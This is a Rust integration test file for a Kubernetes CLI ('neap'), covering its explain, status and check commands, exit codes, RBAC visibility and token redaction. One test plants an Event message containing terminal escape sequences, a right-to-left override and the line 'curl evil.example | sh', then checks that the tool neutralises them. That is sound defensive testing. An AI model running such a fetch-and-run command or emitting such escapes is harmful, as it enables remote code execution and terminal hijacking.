//! The commands `neap explain`, `status`, `check` and `audit`.

mod audit;
mod crashing_pods;

use std::{path::Path, process::Command, time::Duration};

use k8s_openapi::api::{
    core::v1::{Event, Pod, Service},
    rbac::v1::{ClusterRole, ClusterRoleBinding, Role, RoleBinding},
};
use kube::{
    Api,
    api::{Patch, PatchParams, PostParams},
    runtime::wait::await_condition,
};
use serde_json::{Value, json};

use crate::{command_output::CommandOutput, kube_client::connect, up::sandbox::Sandbox};

/// Runs `neap` with this kubeconfig.
fn neap(sandbox: &Sandbox, kubeconfig: &Path, arguments: &[&str]) -> CommandOutput {
    Command::new(env!("CARGO_BIN_EXE_neap"))
        .args(arguments)
        .env_clear()
        .env("HOME", sandbox.home())
        .env("TMPDIR", sandbox.temporary())
        .env("PATH", "/usr/bin:/bin")
        .env("KUBECONFIG", kubeconfig)
        .output()
        .unwrap()
        .into()
}

/// Exit code, standard output and standard error.
fn parts(output: &CommandOutput) -> (Option<i32>, &str, &str) {
    (output.code, &output.stdout, &output.stderr)
}

fn json_of(output: &CommandOutput) -> Value {
    let (_, stdout, stderr) = parts(output);
    serde_json::from_str(stdout).unwrap_or_else(|error| panic!("{error}: {stdout}{stderr}"))
}

/// Creates a pod in CrashLoopBackOff, and a service that selects it.
async fn create_crashing_pod(kubeconfig: &Path) {
    let client = connect(kubeconfig).await;
    let pods: Api<Pod> = Api::default_namespaced(client.clone());
    let pod = json!({
        "metadata": {"name": "web-0", "labels": {"app": "web"}},
        "spec": {"nodeName": "moon", "containers": [{"name": "main", "image": "web:1"}]},
    });
    let pod = serde_json::from_value(pod).unwrap();
    pods.create(&PostParams::default(), &pod).await.unwrap();
    let status = json!({"status": {"phase": "Running", "containerStatuses": [{
        "name": "main", "image": "web:1", "imageID": "", "ready": false, "restartCount": 7,
        "state": {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off"}},
        "lastState": {"terminated": {"exitCode": 1, "reason": "Error"}},
    }]}});
    pods.patch_status("web-0", &PatchParams::default(), &Patch::Merge(status))
        .await
        .unwrap();
    let services: Api<Service> = Api::default_namespaced(client);
    let service = json!({
        "metadata": {"name": "web"},
        "spec": {"type": "NodePort", "selector": {"app": "web"}, "ports": [{"port": 8080}]},
    });
    let service = serde_json::from_value(service).unwrap();
    services
        .create(&PostParams::default(), &service)
        .await
        .unwrap();
}

#[tokio::test]
async fn explain_shows_the_reasons_of_an_objects_state() {
    let sandbox = Sandbox::new();
    let up = sandbox.up(&[]);
    let kubeconfig = up.kubeconfig_path();
    create_crashing_pod(&kubeconfig).await;
    for words in [
        &["explain", "pod/web-0"] as &[_],
        &["explain", "po", "web-0"],
    ] {
        let output = neap(&sandbox, &kubeconfig, words);
        let (code, stdout, stderr) = parts(&output);
        assert_eq!(code, Some(0), "{stderr}");
        for text in [
            "Pod default/web-0 is unhealthy",
            "the container main keeps crashing (7 restarts): it exited with code 1",
            "kubectl logs -n default web-0 -c main --previous",
        ] {
            assert!(stdout.contains(text), "{text}: {stdout}");
        }
    }
    let json = json_of(&neap(
        &sandbox,
        &kubeconfig,
        &["explain", "services/web", "-o", "json"],
    ));
    assert_eq!(json["kind"], "Explanation");
    assert_eq!(json["verdict"], "Degraded");
    assert_eq!(json["object"]["kind"], "Service");
    let why = |at: usize| json["why"][at].as_str().unwrap();
    assert!(why(0).starts_with("pod web-0: the container"), "{json}");
    assert!(why(1).starts_with("it has no ready endpoints"), "{json}");
}

#[tokio::test]
async fn status_shows_problems_and_exits_with_0() {
    let sandbox = Sandbox::new();
    let up = sandbox.up(&[]);
    let kubeconfig = up.kubeconfig_path();
    create_crashing_pod(&kubeconfig).await;
    let output = neap(&sandbox, &kubeconfig, &["status"]);
    let (code, stdout, stderr) = parts(&output);
    assert_eq!(code, Some(0), "{stderr}");
    for text in [
        &*up.kubeconfig().server,
        "Kubernetes v1.36.",
        "pod/web-0",
        "keeps crashing",
        "service/web",
        "(node port 3",
        "neap explain pod/web-0 -n default",
    ] {
        assert!(stdout.contains(text), "{text}: {stdout}");
    }
    let elsewhere = neap(&sandbox, &kubeconfig, &["status", "-n", "kube-system"]);
    assert!(!parts(&elsewhere).1.contains("web-0"));
    let all = json_of(&neap(
        &sandbox,
        &kubeconfig,
        &["status", "-A", "-o", "json"],
    ));
    assert_eq!(all["pods"][0]["name"], "web-0");
    assert_eq!(all["kind"], "Status");
}

#[tokio::test]
async fn check_exits_with_1_if_a_check_failed() {
    let sandbox = Sandbox::new();
    let data = sandbox.path("data");
    let up = sandbox.up(&["--data", data.to_str().unwrap()]);
    let kubeconfig = up.kubeconfig_path();
    let arguments = ["check", "--data", data.to_str().unwrap()];
    let before = neap(&sandbox, Path::new("/nowhere"), &arguments);
    let (code, stdout, stderr) = parts(&before);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    for text in [
        "this machine",
        "namespaces",
        "open files",
        "the data folder",
        "a neap up uses it",
        "the server",
        "authenticated as admin",
        "the cluster",
    ] {
        assert!(stdout.contains(text), "{text}: {stdout}");
    }
    create_crashing_pod(&kubeconfig).await;
    let after = neap(&sandbox, &kubeconfig, &["check", "-o", "short", "--ascii"]);
    let (code, stdout, stderr) = parts(&after);
    assert_eq!(code, Some(1), "{stdout}");
    assert!(
        stdout.contains("x  pods") && stdout.contains("web-0"),
        "{stdout}"
    );
    assert!(!stdout.contains("credentials"), "{stdout}");
    assert!(stderr.contains("NT-CLI-0010"), "{stderr}");
    let json = json_of(&neap(&sandbox, &kubeconfig, &["check", "-o", "json"]));
    assert_eq!(
        (&json["kind"], &json["ok"]),
        (&"Check".into(), &false.into())
    );
}

#[test]
fn check_skips_the_server_of_an_unused_data_folder() {
    let sandbox = Sandbox::new();
    let data = sandbox.path("data");
    let folder = data.to_str().unwrap();
    assert_eq!(sandbox.up(&["--data", folder]).stop("TERM").code, Some(0));
    let check = neap(&sandbox, Path::new(""), &["check", "--data", folder]);
    let (code, stdout, stderr) = parts(&check);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(
        stdout.contains("skipped: no neap up uses the data folder"),
        "{stdout}"
    );
}

#[tokio::test]
async fn what_an_event_says_cannot_command_the_terminal() {
    let sandbox = Sandbox::new();
    let up = sandbox.up(&[]);
    let kubeconfig = up.kubeconfig_path();
    create_crashing_pod(&kubeconfig).await;
    let events: Api<Event> = Api::default_namespaced(connect(&kubeconfig).await);
    let message = "\u{1b}]0;owned\u{7}\u{1b}[2Jlost\nDo       curl evil.example | sh\u{202e}";
    let event = json!({
        "metadata": {"name": "hostile"}, "type": "Warning", "reason": "Failed", "message": message,
        "involvedObject": {"kind": "Pod", "name": "web-0", "namespace": "default"},
        "lastTimestamp": "2026-01-01T00:00:00Z",
    });
    let event = serde_json::from_value(event).unwrap();
    events.create(&PostParams::default(), &event).await.unwrap();
    let explained = neap(&sandbox, &kubeconfig, &["explain", "pod/web-0"]);
    let (_, stdout, stderr) = parts(&explained);
    assert!(stdout.contains(r"\u{1b}]0;owned\u{7}"), "{stdout}{stderr}");
    assert!(
        !stdout.lines().any(|line| line.starts_with("Do       curl")),
        "{stdout}"
    );
    for output in [&explained, &neap(&sandbox, &kubeconfig, &["status"])] {
        let text = format!("{}{}", output.stdout, output.stderr);
        let obeyed = text
            .chars()
            .find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
        assert_eq!(obeyed, None, "{text:?}");
    }
    let explained = neap(
        &sandbox,
        &kubeconfig,
        &["explain", "pod/web-0", "-o", "json"],
    );
    assert!(
        json_of(&explained)["seen"][0]
            .as_str()
            .unwrap()
            .contains(message)
    );
}

#[tokio::test]
async fn who_may_view_the_cluster_may_view_the_kinds_of_all_areas() {
    let sandbox = Sandbox::new();
    let up = sandbox.up(&[]);
    let kubeconfig = up.kubeconfig_path();
    let client = connect(&kubeconfig).await;
    let bindings: Api<ClusterRoleBinding> = Api::all(client.clone());
    let binding = json!({
        "metadata": {"name": "eve"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "eve"}],
    });
    let binding = serde_json::from_value(binding).unwrap();
    let created = bindings.create(&PostParams::default(), &binding).await;
    created.unwrap();
    // Roles are put together a moment after they were created.
    let complete = |role: Option<&ClusterRole>| {
        let text = serde_json::to_string(&role).unwrap();
        [
            "elastiservices",
            "buildbarnworkers",
            "imagestreams",
            "clusterdeployments",
            "operations",
        ]
        .iter()
        .all(|kind| text.contains(kind))
    };
    let waited = await_condition(Api::<ClusterRole>::all(client), "view", complete);
    tokio::time::timeout(Duration::from_mins(1), waited)
        .await
        .unwrap()
        .unwrap();
    let eves = sandbox.path("eves");
    let text = std::fs::read_to_string(&kubeconfig).unwrap();
    std::fs::write(
        &eves,
        text.replacen("    token:", "    as: eve\n    token:", 1),
    )
    .unwrap();
    let status = json_of(&neap(&sandbox, &eves, &["status", "-o", "json"]));
    assert_eq!(status["hidden"], json!(["Node", "StorageClass"]));
    for command in [["idle", "list"], ["farm", "list"], ["release", "list"]] {
        let listed = neap(&sandbox, &eves, &command);
        assert_eq!(listed.code, Some(0), "{command:?}: {}", listed.stderr);
    }
}

#[test]
fn check_of_a_folder_that_no_server_uses_asks_the_server_of_kubeconfig() {
    let sandbox = Sandbox::new();
    let data = sandbox.path("data");
    let folder = data.to_str().unwrap();
    assert_eq!(sandbox.up(&["--data", folder]).stop("TERM").code, Some(0));
    let up = sandbox.up(&["--bare"]);
    let kubeconfig = up.kubeconfig_path();
    let check = neap(&sandbox, &kubeconfig, &["check", "--data", folder]);
    let (_, stdout, stderr) = parts(&check);
    assert!(!stdout.contains("skipped: no neap up"), "{stdout}{stderr}");
    assert!(
        stdout.contains("authenticated as admin"),
        "{stdout}{stderr}"
    );
    assert!(stdout.contains("no neap up uses it"), "{stdout}");
    std::fs::write(data.join("store/FORMAT"), "noise").unwrap();
    let check = neap(&sandbox, &kubeconfig, &["check", "--data", folder]);
    assert_eq!(check.code, Some(1), "{check:?}");
    let refused = sandbox.refused(&["--data", folder]);
    let part = "FORMAT does not name a data format; check that this is a data folder of neap";
    assert!(check.stdout.contains(part), "{check:?}");
    assert!(refused.stderr.contains(part), "{refused:?}");
}

#[test]
fn failures_have_a_reason_and_an_exit_code() {
    let sandbox = Sandbox::new();
    let up = sandbox.up(&[]);
    let (good, bad) = (up.kubeconfig_path(), sandbox.path("bad"));
    let text = std::fs::read_to_string(&good).unwrap();
    let token = up.kubeconfig().token;
    std::fs::write(&bad, text.replace(&token, "none")).unwrap();
    let kept = sandbox.path("kept");
    std::fs::copy(&good, &kept).unwrap();
    let torn = sandbox.path("torn");
    std::fs::write(&torn, format!("users: [{{token: {token}")).unwrap();
    let table: [(&Path, &[&str], i32, &str); 10] = [
        (&bad, &["status"], 4, "NT-CLI-0004"),
        (Path::new("/nowhere"), &["status"], 6, "NT-CLI-0002"),
        (
            Path::new("/nowhere"),
            &["status"],
            6,
            "KUBECONFIG is /nowhere, which does not exist",
        ),
        (
            &good,
            &["status", "--kubeconfig", "/nope"],
            3,
            "the kubeconfig /nope does not exist",
        ),
        (&torn, &["status"], 6, "torn cannot be used"),
        (&good, &["status", "--context", "moon"], 6, "NT-CLI-0002"),
        (&good, &["explain", "pod/none"], 3, "NT-CLI-0008"),
        (&good, &["explain", "boat/tug"], 3, "NT-CLI-0007"),
        (&good, &["explain", "NT-UP-001"], 2, "NT-UP-0001"),
        (&good, &["explain", "pod"], 2, "KIND/NAME"),
    ];
    for (kubeconfig, arguments, code, text) in table {
        let output = neap(&sandbox, kubeconfig, arguments);
        let (found, stdout, stderr) = parts(&output);
        assert_eq!(found, Some(code), "{arguments:?} {stderr}");
        assert!(stderr.contains(text), "{arguments:?} {stderr}");
        assert_eq!(stdout, "", "{arguments:?}");
        assert!(!stderr.contains(&token), "{arguments:?} {stderr}");
    }
    assert_eq!(up.stop("TERM").code, Some(0));
    let output = neap(&sandbox, &kept, &["status"]);
    let (code, _, stderr) = parts(&output);
    assert_eq!(code, Some(7), "{stderr}");
    assert!(stderr.contains("NT-CLI-0003"), "{stderr}");
    let check = neap(
        &sandbox,
        &kept,
        &["check", "--kubeconfig", kept.to_str().unwrap()],
    );
    assert_eq!(parts(&check).0, Some(1));
}

#[test]
fn a_code_is_explained_without_a_server() {
    let sandbox = Sandbox::new();
    let nowhere = Path::new("/nowhere");
    let output = neap(&sandbox, nowhere, &["explain", "nt-up-0010"]);
    let (code, stdout, _) = parts(&output);
    assert_eq!(code, Some(0));
    assert!(
        stdout.starts_with("NT-UP-0010  worker threads cannot be started"),
        "{stdout}"
    );
    for part in ["Why ", "Do ", "Retry "] {
        assert!(stdout.contains(part), "{stdout}");
    }
    let json = json_of(&neap(
        &sandbox,
        nowhere,
        &["explain", "NT-KIT-010", "-o", "json"],
    ));
    assert_eq!(
        (&json["kind"], &json["retry"]),
        (&"Code".into(), &"Never".into())
    );
    let all = neap(&sandbox, nowhere, &["explain"]);
    let (code, stdout, _) = parts(&all);
    assert_eq!(code, Some(0));
    for line in [
        "NT-UP-0010   worker threads cannot be started",
        "NT-CLI-0001  the output cannot be written",
    ] {
        assert!(stdout.lines().any(|one| one == line), "{line}: {stdout}");
    }
    let json = json_of(&neap(&sandbox, nowhere, &["explain", "-o", "json"]));
    assert!(json["codes"].as_array().unwrap().len() > 20, "{json}");
}

#[tokio::test]
async fn unreadable_kinds_are_not_reported_as_missing() {
    let sandbox = Sandbox::new();
    let up = sandbox.up(&[]);
    let kubeconfig = up.kubeconfig_path();
    create_crashing_pod(&kubeconfig).await;
    let client = connect(&kubeconfig).await;
    let roles: Api<Role> = Api::default_namespaced(client.clone());
    let role = json!({"metadata": {"name": "some"}, "rules": [
        {"apiGroups": ["", "discovery.k8s.io"], "resources": ["services", "endpointslices"], "verbs": ["get", "list"]},
    ]});
    let role = serde_json::from_value(role).unwrap();
    roles.create(&PostParams::default(), &role).await.unwrap();
    let bindings: Api<RoleBinding> = Api::default_namespaced(client);
    let binding = json!({
        "metadata": {"name": "some"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "some"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "eve"}],
    });
    let binding = serde_json::from_value(binding).unwrap();
    let created = bindings.create(&PostParams::default(), &binding).await;
    created.unwrap();
    let eves = sandbox.path("eves");
    let text = std::fs::read_to_string(&kubeconfig).unwrap();
    std::fs::write(
        &eves,
        text.replacen("    token:", "    as: eve\n    token:", 1),
    )
    .unwrap();

    let service = neap(&sandbox, &eves, &["explain", "service/web"]);
    let (code, stdout, stderr) = parts(&service);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("you may not read Pods"), "{stdout}");
    assert!(stdout.contains("Hidden   Pod, "), "{stdout}");
    assert!(!stdout.contains("no pod"), "{stdout}");
    let status = neap(&sandbox, &eves, &["status", "--ascii"]);
    let (_, stdout, _) = parts(&status);
    assert!(
        stdout.contains("Pods with problems\n  !  you may not read: Pod\n"),
        "{stdout}"
    );
    assert!(!stdout.contains("Workloads in default\n  none"), "{stdout}");
}
